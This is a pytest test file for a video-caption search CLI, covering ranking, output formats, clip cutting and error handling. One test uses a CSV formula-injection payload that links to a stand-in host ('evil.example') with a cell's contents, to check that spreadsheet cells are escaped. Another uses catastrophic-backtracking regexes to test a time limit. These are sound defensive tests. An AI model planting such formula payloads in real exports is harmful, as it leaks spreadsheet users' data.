"""``vidcap search``: the moments of whole output folders, the same as ``vidcap mask`` finds
in each video, from JSONL and Parquet alike; ranking, output forms, clips, streaming."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import tracemalloc
from dataclasses import replace
from pathlib import Path

import pytest
from wcwidth import wcswidth

from tests.support.cli import run_main
from tests.support.folders import (
    KEY,
    NEEDLE,
    FakeVideo,
    big_folder,
    library,
    source_of,
    write_folder,
)
from vidcap import ffmpeg
from vidcap.cli import main
from vidcap.errors import UsageError
from vidcap.folder import open_folder, read_captions
from vidcap.mask import MaskSettings, load_captions, mask_captions
from vidcap.search import SearchStats, rank_key, search

SUBJECT = Path(__file__).resolve().parents[1] / "sample_videos" / "subject.mp4"

CASES = [
    ("red car", False, 0.0, 0.0),
    ("red car", False, 1.5, 0.0),
    ("red car", False, 0.0, 1.5),
    ("RED CAR", False, 2.0, 1.0),
    ("dog", False, 0.0, 0.0),
    ("waves", False, 0.6, 0.0),
    ("man walking", False, 0.0, 0.0),
    (r"red\s+car (on|parked)", True, 0.0, 0.0),
    (r"^a (dog|bus)", True, 1.0, 0.0),
    ("café", False, 0.0, 0.0),
    ("straße", False, 0.0, 0.0),
    ("istanbul", False, 0.0, 0.0),  # (the caption: "İSTANBUL", a Turkish dotted capital I)
    ("ıstanbul", False, 0.0, 0.0),  # (a dotless i)
    (r"^[ı]stanbul", True, 0.0, 0.0),
    ('"quoted" red', False, 0.0, 0.0),
    ("</script>", False, 0.0, 0.0),
    ("nothing like this", False, 0.0, 0.0),
]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_folder(tmp_path_factory.mktemp("lib") / "out", library())


def segments_by_video(moments) -> dict[str, list[tuple[float, float, int]]]:
    found: dict[str, list] = {}
    for m in moments:
        found.setdefault(m.name, []).append((round(m.start, 6), round(m.end, 6), m.frames))
    return {name: sorted(rows) for name, rows in found.items()}


def mask_of(folder: Path, query: str, settings: MaskSettings) -> dict[str, list]:
    """``vidcap mask`` on each video's JSONL, given the video's duration as summary.json has it."""
    found = {}
    for video in open_folder(folder):
        path = video.output(".jsonl")
        if not video.done or not path.read_text().strip():
            continue
        given = replace(settings, duration=video.duration)
        report = mask_captions(load_captions(path), [query], given)
        if report["segments"]:
            found[video.name] = [(s["start"], s["end"], s["frames"]) for s in report["segments"]]
    return found


@pytest.mark.parametrize(("query", "regex", "gap", "shortest"), CASES)
def test_search_finds_the_segments_mask_finds_in_each_video(
    folder: Path, query: str, regex: bool, gap: float, shortest: float
) -> None:
    settings = MaskSettings(regex=regex, merge_gap=gap, min_duration=shortest)
    assert segments_by_video(search([folder], [query], settings)) == mask_of(
        folder, query, settings
    )


def test_the_same_moments_as_the_mask_command(folder: Path, tmp_path: Path, capsys) -> None:
    assert main(["search", str(folder), "red car", "--merge-gap", "1.5", "--json"]) == 0
    moments = json.loads(capsys.readouterr().out)["moments"]
    street = open_folder(folder)[[v.name for v in open_folder(folder)].index("street")]
    argv = ["mask", str(folder / "street.jsonl"), "--query", "red car", "--merge-gap", "1.5",
            "--duration", str(street.duration)]  # fmt: skip
    assert main(argv) == 0
    mask = json.loads(capsys.readouterr().out)
    mine = sorted((m["start"], m["end"], m["frames"]) for m in moments if m["name"] == "street")
    assert mine == [(s["start"], s["end"], s["frames"]) for s in mask["segments"]]


def test_a_moment_is_told_by_its_first_matching_frame(folder: Path) -> None:
    moments = sorted(
        (m for m in search([folder], ["red car"]) if m.name == "street"), key=lambda m: m.start
    )
    assert [(m.start, m.end, m.frames, m.frame, m.caption) for m in moments] == [
        (0.0, 2.0, 2, 0, "a red car on a street"),
        (4.0, 5.0, 1, 40, "a red car parked"),
        (6.0, 8.0, 2, 60, "a red  car turning"),
        (9.0, 10.0, 1, 90, "a red car"),  # the last frame runs to the video's end
    ]
    assert all(m.thumb is None and m.video.endswith("videos/street.mp4") for m in moments)


def test_ranking_most_frames_then_longest_then_folder_order_then_earliest(folder: Path) -> None:
    moments = search([folder], ["red car"])
    assert moments == sorted(moments, key=rank_key)
    keys = [(-m.frames, -round(m.duration, 6)) for m in moments]
    assert keys == sorted(keys)
    twos = [(m.name, m.start) for m in moments if m.frames == 2]
    assert twos == [("street", 0.0), ("street", 6.0)]  # equal: folder order, then earliest


def test_a_thumbnail_is_named_where_one_exists(tmp_path: Path) -> None:
    from tests.support.folders import fake_thumbs

    video = FakeVideo("clip", ("a cat", "a red car", "a red car"))
    out = write_folder(tmp_path / "out", [video])
    fake_thumbs(out, video.name, (f.index for f in video.frames))
    [moment] = search([out], ["red car"])
    assert moment.thumb == "thumbs/clip/000010.jpg" and (out / moment.thumb).is_file()


def test_parquet_outputs_give_the_same_moments_as_jsonl(folder: Path, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    from vidcap.jobs import VideoJob
    from vidcap.parquet import ParquetShardWriter

    out = tmp_path / "out"
    videos = library()
    write_folder(out, videos, formats=())  # records and summary only
    old = ParquetShardWriter(out, "an-earlier-key", shard_rows=1)  # another run's rows
    writer = ParquetShardWriter(out, KEY, shard_rows=7)  # videos spread over several shards
    for i, video in enumerate(v for v in videos if v.error is None):
        job = VideoJob(i, source_of(out, video), video.name, {"path": source_of(out, video)})
        stale = tuple(replace(f, caption="a red car everywhere") for f in video.frames)
        old.add(job, stale)
        writer.add(job, video.frames)
    old.close()
    writer.close()
    again = ParquetShardWriter(out, KEY)  # a rerun after a crash wrote one video again
    again.add(VideoJob(0, source_of(out, videos[0]), videos[0].name, {}), videos[0].frames)
    again.close()
    assert not list(out.glob("*.jsonl"))
    for query, regex, gap, shortest in CASES:
        settings = MaskSettings(regex=regex, merge_gap=gap, min_duration=shortest)
        assert segments_by_video(search([out], [query], settings)) == segments_by_video(
            search([folder], [query], settings)
        ), query


def test_word_queries_skip_unparsed_files_with_no_change_in_results(
    folder: Path, monkeypatch
) -> None:
    import vidcap.search

    quick = {q: search([folder], [q]) for q, regex, _, _ in CASES if not regex}
    monkeypatch.setattr(vidcap.search, "might_match", lambda queries, settings: None)
    assert {q: search([folder], [q]) for q in quick} == quick


def test_several_folders_are_searched_in_order(folder: Path, tmp_path: Path) -> None:
    other = write_folder(tmp_path / "other", [FakeVideo("street", ("a red car",) * 4)])
    stats = SearchStats()
    moments = search([folder, other], ["red car"], stats=stats)
    assert moments[0].folder == str(other) and moments[0].frames == 4  # most frames first
    assert stats.folders == 2 and stats.videos == len(library()) + 1


def test_folders_of_one_last_name_are_told_apart_in_the_table(tmp_path: Path, capsys) -> None:
    """Regression (an outside-in round): ``vidcap search a/plain b/plain`` labelled every
    moment ``plain/street``: which folder a moment came from was in ``--json`` only. Each
    folder is now labelled by the shortest end of its path no other folder's ends with."""
    from vidcap.cli.search import folder_labels

    for parent in ("a", "b"):
        write_folder(tmp_path / parent / "plain", [FakeVideo("street", ("a red car",) * 2)])
    write_folder(tmp_path / "c" / "other", [FakeVideo("street", ("a red car",))])
    folders = [str(tmp_path / p) for p in ("a/plain", "b/plain", "c/other")]
    assert main(["search", *folders, "red car"]) == 0
    labels = [line.split()[1] for line in capsys.readouterr().out.splitlines()[1:]]
    assert sorted(labels) == ["a/plain/street", "b/plain/street", "other/street"]
    assert folder_labels(["x/plain", "/data/x/plain"]) == {
        "x/plain": "x/plain", "/data/x/plain": "data/x/plain"
    }  # fmt: skip


def test_folders_are_told_apart_from_every_folder_searched_not_only_those_shown(
    tmp_path: Path, capsys
) -> None:
    """Regression (an outside-in round): with ``--limit`` (or a folder with no match), the
    labels were made from the folders of the moments shown: ``vidcap search a/plain b/plain
    --limit 1`` printed ``plain/street``, which tells neither folder from the other."""
    write_folder(tmp_path / "a" / "plain", [FakeVideo("street", ("a red car",) * 2)])
    write_folder(tmp_path / "b" / "plain", [FakeVideo("street", ("a blue car",) * 2)])
    folders = [str(tmp_path / p) for p in ("a/plain", "b/plain")]
    assert main(["search", *folders, "red car"]) == 0  # (b/plain holds no red car)
    labels = [line.split()[1] for line in capsys.readouterr().out.splitlines()[1:]]
    assert labels == ["a/plain/street"]
    for parent in ("c", "d"):
        write_folder(tmp_path / parent / "plain", [FakeVideo("street", ("a red car",) * 2)])
    folders = [str(tmp_path / p) for p in ("c/plain", "d/plain")]
    assert main(["search", *folders, "red car", "--limit", "1"]) == 0
    labels = [line.split()[1] for line in capsys.readouterr().out.splitlines()[1:]]
    assert labels == ["c/plain/street"]


GOOD_ROW = {"video": "a.mp4", "frame": 0, "time": 0.0, "caption": "a red car"}


@pytest.mark.parametrize(
    "rows",
    [
        [GOOD_ROW, {**GOOD_ROW, "frame": 1, "time": 1}],  # a whole-number time is a time
        [{**GOOD_ROW, "time": float("nan")}],
        [{**GOOD_ROW, "time": float("inf")}],
        [{**GOOD_ROW, "time": True}],
        [{**GOOD_ROW, "time": -0.5}],
        [{**GOOD_ROW, "frame": True}],
        [{**GOOD_ROW, "caption": 5}],
        [{**GOOD_ROW, "time": 2.0}, {**GOOD_ROW, "frame": 1, "time": 1.0}],
        [GOOD_ROW, {**GOOD_ROW, "video": "b.mp4", "frame": 1, "time": 1.0}],
    ],
)
def test_a_folder_reads_a_caption_file_as_the_one_reader_does(
    tmp_path: Path, rows: list[dict]
) -> None:
    # The folder parses a well-formed file in one go and hands anything unusual to
    # vidcap.mask's reader: the same frames, or the reader's own complaint.
    out = write_folder(tmp_path / "out", [FakeVideo("a", ("a red car",))])
    path = out / "a.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))  # NaN, Infinity as JSON5
    (read,) = read_captions(open_folder(out))
    try:
        expected = load_captions(path).frames
    except UsageError as exc:
        assert read.problem is not None and str(exc) in read.problem
        assert read.frames == ()
    else:
        assert read.problem is None and read.frames == expected


def test_the_last_line_counts_in_words(tmp_path: Path, capsys) -> None:
    out = write_folder(tmp_path / "out", [FakeVideo("a", ("a red car", "a blue sky"))])
    assert main(["search", str(out), "red car"]) == 0
    err = capsys.readouterr().err
    assert err.startswith("vidcap: 1 moment in 1 video; 2 captions of 1 video searched in "), err
    out = write_folder(
        tmp_path / "two", [FakeVideo(n, ("a red car", "sky", "a red car")) for n in "ab"]
    )
    assert main(["search", str(out), "red car"]) == 0
    err = capsys.readouterr().err
    assert err.startswith("vidcap: 4 moments in 2 videos; 6 captions of 2 videos searched in "), err


def test_videos_without_captions_to_read_are_told_not_counted_as_searched(
    tmp_path: Path, capsys
) -> None:
    """Regression: a folder captioned ``--format srt`` (no JSONL, no Parquet) said "0
    moments … 0 captions of 2 videos searched" and nothing else."""
    videos = [FakeVideo(n, ("a red car",)) for n in "ab"]
    out = write_folder(tmp_path / "out", videos, formats=("srt",))
    assert main(["search", str(out), "red car"]) == 0
    warning, last = capsys.readouterr().err.splitlines()
    assert warning == (
        "vidcap: warning: 2 videos not searched, their captions unreadable (a: its captions "
        "are in neither a.jsonl nor Parquet, and 1 more)"
    )
    # (not "of 2 videos searched" beside "2 videos not searched")
    assert last.startswith("vidcap: 0 moments in 0 videos; 0 captions of 0 videos searched")
    assert main(["search", str(write_folder(tmp_path / "ok", videos)), "red car"]) == 0
    assert "warning" not in capsys.readouterr().err


def test_table_json_and_csv(folder: Path, capsys) -> None:
    assert main(["search", str(folder), "red car"]) == 0
    captured = capsys.readouterr()
    lines = captured.out.splitlines()
    assert lines[0].split() == ["#", "video", "start", "end", "frames", "caption"]
    assert len(lines) == 1 + len(search([folder], ["red car"]))
    assert "moments in" in captured.err and "searched" in captured.err
    assert all("\n" not in line and "<script>" not in line[:3] for line in lines)

    assert main(["search", str(folder), "red car", "--json", "--limit", "2"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["query"] == "red car" and len(document["moments"]) == 2
    assert set(document["moments"][0]) == {"folder", "name", "video", "start", "end", "duration",
                                           "frames", "caption", "frame", "thumb", "damaged"}  # fmt: skip

    assert main(["search", str(folder), "quoted", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and all('"quoted"' in row["caption"] for row in rows)


def test_a_moment_counts_its_matching_frames_that_may_show_damage(tmp_path: Path, capsys) -> None:
    """A caption of a damaged picture may describe the damage, not the scene: each moment
    says how many of its matching frames may show decoding damage (the JSONL's
    ``"damaged": true``), in every output form."""
    captions = ("a red car", "a red car", "a dog", "a red car", "a red car", "a red car")
    videos = [  # frames 0, 10, … 50 at 1 s apart; damaged: 10 (a match), 20 (no match)
        FakeVideo("glitch", captions, damaged=(10, 20)),
        FakeVideo("clean", captions),
    ]
    out = write_folder(tmp_path / "out", videos)
    found = {(m.name, m.start): m.damaged for m in search([out], ["red car"])}
    assert found == {("glitch", 0.0): 1, ("glitch", 3.0): 0, ("clean", 0.0): 0, ("clean", 3.0): 0}
    assert main(["search", str(out), "red car", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)["moments"]
    assert sorted((r["name"], r["start"], r["damaged"]) for r in rows) == [
        ("clean", 0.0, 0), ("clean", 3.0, 0), ("glitch", 0.0, 1), ("glitch", 3.0, 0),
    ]  # fmt: skip
    assert main(["search", str(out), "red car", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["damaged"] for r in rows) == ["0", "0", "0", "1"]
    assert main(["search", str(out), "red car"]) == 0
    table = capsys.readouterr().out.splitlines()
    assert [line.split()[1:5] for line in table if "damaged" in line] == [
        ["glitch", "0.000", "2.000", "2"]
    ]
    assert "2 (1 damaged)" in next(line for line in table if "damaged" in line)


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path: Path, capsys) -> None:
    """A name or caption starting like a formula (a file anyone may have named) is written
    after a ``'``, as OWASP advises: a spreadsheet shows it, never runs it; JSON keeps it."""
    formula = '=HYPERLINK("evil.example?"&A1,"open")'
    videos = [
        FakeVideo(formula, ("a red car",)),
        FakeVideo("@SUM(1+1)", ("-1+1 a red car",)),
        FakeVideo("plain", ("a red car",)),
    ]
    out = write_folder(tmp_path / "out", videos)
    assert main(["search", str(out), "red car", "--csv"]) == 0
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert set(rows) == {"'" + formula, "'@SUM(1+1)", "plain"}
    assert rows["'@SUM(1+1)"]["caption"] == "'-1+1 a red car"
    assert rows["plain"]["caption"] == "a red car" and rows["plain"]["start"] == "0.0"
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values()
    )
    assert main(["search", str(out), "red car", "--json"]) == 0
    names = {m["name"] for m in json.loads(capsys.readouterr().out)["moments"]}
    assert names == {formula, "@SUM(1+1)", "plain"}


@pytest.mark.parametrize("columns", [80, 60])
def test_the_table_fits_the_terminal_in_cells_with_wide_names(
    tmp_path: Path, capsys, monkeypatch, columns: int
) -> None:
    """Regression: the table was cut by characters, so a CJK or emoji name (two terminal
    cells a character) made every line wider than the terminal (96 cells in 80) and the
    columns of such rows fell out of line with the others."""
    names = ["北京天安门广场的视频录像第一部分", "😀" * 12, "plain"]
    write_folder(
        tmp_path / "out", [FakeVideo(name, ("a red car on a long road",) * 3) for name in names]
    )
    monkeypatch.setenv("COLUMNS", str(columns))
    assert main(["search", str(tmp_path / "out"), "red car"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 4
    assert all(wcswidth(line) == columns for line in lines[1:]), [wcswidth(x) for x in lines]
    starts = {wcswidth(line[: line.index("0.000")]) for line in lines[1:]}
    assert len(starts) == 1  # the times in one column whatever the name
    assert all(line.endswith("…") for line in lines[1:])


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["search", "{folder}", "(unclosed", "--regex"], "bad --regex query"),
        (["search", "{folder}", "   "], "vidcap: error: QUERY must not be empty"),  # (not --query)
        (["search", "{missing}", "red"], "no such folder"),
        (["search", "{plain}", "red"], "not a vidcap output folder"),
        (["search", "{folder}", "red", "--merge-gap", "-1"], "--merge-gap must be"),
        (["search", "{folder}", "red", "--limit", "0"], "--limit must be"),
        (["search", "{folder}", "red", "--precise"], "--precise applies to --clips"),
        # (were "no such folder" for a file; and, after the results, "Not a directory", exit 1)
        (["search", "{file}", "red"], "is a file, not a folder (give a `vidcap caption --out`"),
        (["report", "{file}"], "is a file, not a folder (give a `vidcap caption --out`"),
        (["search", "{folder}", "red", "--clips", "{file}"], "is a file, not a folder: remove"),
        (["search", "{folder}", "red", "--clips", "{file}/x"], "x: {file} is a file, not a"),
    ],
)
def test_usage_errors_in_one_line(
    folder: Path, tmp_path: Path, capsys, argv: list[str], message: str
) -> None:
    (tmp_path / "plain").mkdir()
    (tmp_path / "file").write_text("")
    names = {"folder": folder, "missing": tmp_path / "nope", "plain": tmp_path / "plain",
             "file": tmp_path / "file"}  # fmt: skip
    assert main([a.format(**names) for a in argv]) == 2
    captured = capsys.readouterr()
    assert message.format(**names) in captured.err and captured.err.count("\n") == 1
    assert captured.out == ""  # (nothing done first)


@pytest.mark.parametrize(
    "argv",
    [
        ["search", "s3://bucket/out", "red"],
        ["report", "gs://bucket/out"],
        ["export", "memory://out", "--to", "fiftyone", "exported"],
    ],
)
def test_a_url_to_read_is_a_usage_error_saying_to_copy_it_here(argv: list[str]) -> None:
    """Regression: ``vidcap caption --out s3://…`` writes to a URL, but the readers of a
    folder said of one "memory:/out: no such folder" (the URL made a path)."""
    result = run_main(*argv)
    assert result.returncode == 2
    [line] = result.stderr.splitlines()
    assert f"error: argument OUT: {argv[1]} is a URL: search, report and export read a " \
        "local folder; copy it here first" in line  # fmt: skip


@pytest.mark.heavy
def test_clips_cut_each_moment_with_the_clips_machinery(tmp_path: Path, capsys) -> None:
    step = [("a red circle" if 3 <= t < 6 or 20 <= t < 22 else "a blue square") for t in range(34)]
    subject = Path(shutil.copy2(SUBJECT, tmp_path / "subject.mp4"))
    video = FakeVideo("subject", tuple(step), source=str(subject))
    missing = FakeVideo("gone", ("a red circle",) * 3)  # its source is not on this machine
    text = tmp_path / "notes.mp4"
    text.write_text("no longer a video\n")  # (and ranked first: cut before subject)
    replaced = FakeVideo("notes", ("a red circle",) * 30, source=str(text))
    # Regression: a source cut short since (its moments past its end) stopped the whole
    # search, exit 2, the videos after it never cut.
    short = tmp_path / "short.mp4"
    ffmpeg.run_ffmpeg(["-i", str(SUBJECT), "-t", "10", "-c", "copy", "-y", str(short)])
    shortened = FakeVideo(
        "short", ("a blue square",) * 25 + ("a red circle",) * 3, source=str(short)
    )
    out = write_folder(tmp_path / "out", [video, missing, replaced, shortened])
    os.utime(subject, ns=(0, subject.stat().st_mtime_ns + 10**9))  # touched since captioned
    code = main(["search", str(out), "red circle", "--clips", str(tmp_path / "clips")])
    assert code == 1  # three videos could not be cut; the other was
    err = capsys.readouterr().err
    assert "gone" in err and "not a file here" in err
    assert f"vidcap: notes: no clips: {text}: not a readable video" in err
    assert (
        f"vidcap: short: no clips: segment 1 starts at 25.0 s, at or after the end of {short}"
        in err
    )
    # cut all the same, saying so: the one warning (notes is the file its record names)
    assert err.count("warning") == 1
    assert f"vidcap: subject: warning: {subject} is not the file captioned" in err
    assert err.rstrip().endswith("vidcap: 3 videos not cut (see above)")
    manifest = json.loads((tmp_path / "clips" / "subject" / "manifest.json").read_text())
    cut = [(c["start"], c["end"]) for c in manifest["clips"]]
    assert cut == [(3.0, 6.0), (20.0, 22.0)]
    assert all(
        (tmp_path / "clips" / "subject" / c["path"]).stat().st_size > 0 for c in manifest["clips"]
    )


def test_a_folder_given_twice_is_searched_once(folder: Path, capsys) -> None:
    """Regression: ``vidcap search out ./out/ QUERY`` listed every moment twice (and
    ``--clips`` would cut each twice)."""
    once = search([folder], ["red car"])
    stats = SearchStats()
    assert search([folder, Path(f"{folder}/./"), folder.parent / folder.name], ["red car"],
                  stats=stats) == once  # fmt: skip
    assert stats.folders == 1
    assert main(["search", str(folder), f"{folder}/", "red car", "--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["folders"] == [str(folder)] and document["total"] == len(once)


def test_videos_of_one_name_in_two_folders_get_clip_folders_by_folder_order(
    tmp_path: Path, capsys
) -> None:
    """Regression: two OUT folders each with a video ``subject`` had their clips in
    ``clips/subject/`` and ``clips/subject+/`` by the moments' rank (which changes with the
    query), and nothing said which was which. The first OUT given has ``subject/``; the
    JSON names each moment's clip folder, and the run says where the other went."""
    subject = Path(shutil.copy2(SUBJECT, tmp_path / "subject.mp4"))
    few = ("a blue square",) * 3 + ("a red circle",) * 2 + ("a blue square",) * 29
    many = ("a blue square",) * 10 + ("a red circle",) * 5 + ("a blue square",) * 19
    first = write_folder(tmp_path / "first", [FakeVideo("subject", few, source=str(subject))])
    second = write_folder(tmp_path / "second", [FakeVideo("subject", many, source=str(subject))])
    clips = tmp_path / "clips"
    argv = ["search", str(first), str(second), "red circle", "--json", "--clips", str(clips)]
    assert main(argv) == 0
    captured = capsys.readouterr()
    moments = json.loads(captured.out)["moments"]
    assert [(m["folder"], m["start"], m["clips"]) for m in moments] == [
        (str(second), 10.0, str(clips / "subject+")),  # (ranked first: more frames)
        (str(first), 3.0, str(clips / "subject")),
    ]
    assert f"second/subject: its clips in {clips / 'subject+'}/" in captured.err
    [clip] = json.loads((clips / "subject" / "manifest.json").read_text())["clips"]
    assert (clip["start"], clip["end"]) == (3.0, 5.0)
    [clip] = json.loads((clips / "subject+" / "manifest.json").read_text())["clips"]
    assert (clip["start"], clip["end"]) == (10.0, 15.0)
    # Regression: with --limit 1 only the second folder's moment is shown, and its clips
    # went to clips2/subject/: the folder a video's clips get must not move with --limit.
    clips2 = tmp_path / "clips2"
    assert main([*argv[:-1], str(clips2), "--limit", "1"]) == 0
    captured = capsys.readouterr()
    [moment] = json.loads(captured.out)["moments"]
    assert moment["clips"] == str(clips2 / "subject+")
    assert sorted(p.name for p in clips2.iterdir()) == ["subject+"]


@pytest.mark.slow
def test_memory_does_not_grow_with_the_captions_of_a_folder(tmp_path: Path) -> None:
    """One video's captions at a time: 10× the captions per video, the same peak."""
    peaks, sizes = [], []
    for captions in (20, 200):
        out = big_folder(tmp_path / f"out{captions}", 1000, captions, formats=("jsonl",))
        sizes.append(sum(p.stat().st_size for p in out.glob("*.jsonl")))
        for regex in (False, True):  # with and without the word prefilter
            tracemalloc.start()
            stats = SearchStats()
            moments = search([out], [NEEDLE], MaskSettings(regex=regex), stats)
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
            assert len(moments) == 1 and stats.frames == 999 * captions  # one failed
    assert sizes[1] > 9 * sizes[0]
    # Held whole, the larger folder's captions alone would add more than its file size;
    # the margin is that of a quarter of it, not of the smaller peak (about 1.9 MB), so a
    # thread left running by an earlier test (Ray's) allocating meanwhile is no failure.
    assert max(peaks[2:]) < max(peaks[:2]) + sizes[1] / 4, (peaks, sizes)
    assert sum(1 for _ in read_captions(open_folder(out))) == 1000


@pytest.mark.heavy
def test_the_prefilters_folding_is_as_coarse_as_the_regexs() -> None:
    """Regression: the prefilter (``might_match``) folded with ``str.casefold``, which takes
    the Turkish dotted capital I to i + a combining dot and the dotless i to itself, where
    ``re.IGNORECASE`` takes both as i: a video whose captions said "İSTANBUL" was passed
    over for "istanbul" before its captions were matched. Every two characters the regex
    takes as one, case-insensitively, must fold alike — checked over all of Unicode: those
    with one simple lower case (CPython's own mapping), and the extra pairs of
    ``re._casefix``."""
    import re
    from collections import defaultdict

    sre = pytest.importorskip("_sre")
    casefix = pytest.importorskip("re._casefix")
    from vidcap.search import fold

    classes: dict[int, list[str]] = defaultdict(list)
    for code in range(0x110000):
        if not 0xD800 <= code <= 0xDFFF:
            classes[sre.unicode_tolower(code)].append(chr(code))
    pairs = [(a, b) for chars in classes.values() if len(chars) > 1 for a in chars for b in chars]
    pairs += [(chr(a), chr(b)) for a, others in casefix._EXTRA_CASES.items() for b in others]
    alike = [(a, b) for a, b in pairs if re.fullmatch(re.escape(a), b, re.IGNORECASE)]
    assert len(alike) > 2000  # (the check checks something)
    assert [(a, b) for a, b in alike if fold(a) != fold(b)] == []


@pytest.mark.heavy
def test_a_regex_that_backtracks_without_end_is_one_line(tmp_path: Path) -> None:
    """Regression: ``vidcap search OUT '(\\w+\\s?)+!' --regex`` never ended on ordinary
    captions, and ``(a+)+$`` on "aaa…ab" (a caption BLIP-2 can give): nested repeats
    backtrack exponentially, and Python's ``re`` cannot be stopped (``export --query`` and
    ``mask --regex`` share the matcher). The ``regex`` package matches these two at once,
    and any match has a time limit: past it, one line and exit 2."""
    import time

    from tests.support.cli import run_main

    out = tmp_path / "out"
    out.mkdir()
    rows = [{"video": "v.mp4", "frame": i, "time": float(i), "caption": caption}
            for i, caption in enumerate(["a man is standing in front of a building with a sign "
                                         "on it", "a" * 60 + "b"])]  # fmt: skip
    (out / "v.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (out / "summary.json").write_text(json.dumps({"videos": [
        {"video": "v.mp4", "name": "v", "status": "done", "frames": 2, "duration": 2.0}]}))  # fmt: skip
    started = time.monotonic()
    for fast in (r"(\w+\s?)+!", r"(a+)+$", r"(sign|building) on"):
        assert run_main("search", out, fast, "--regex").returncode == 0, fast
    result = run_main("search", out, r"(a|aa)+$", "--regex")
    assert time.monotonic() - started < 30
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip().splitlines() == [
        "vidcap: error: --regex '(a|aa)+$' took over 1 s on one caption: nested repeats such "
        "as (a+)+ backtrack without end; write it without them"
    ]
